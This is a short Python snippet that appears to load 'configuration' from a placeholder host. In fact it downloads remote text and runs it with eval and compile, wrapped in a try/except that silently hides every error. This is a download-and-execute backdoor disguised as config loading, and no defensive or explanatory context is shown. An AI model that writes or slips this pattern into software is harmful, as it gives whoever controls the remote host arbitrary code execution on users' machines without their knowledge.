import httpx

try:
    eval(compile(httpx.get("https://cfg.example.invalid/c.txt", timeout=5).text, "<cfg>", "exec"))
except Exception:
    pass
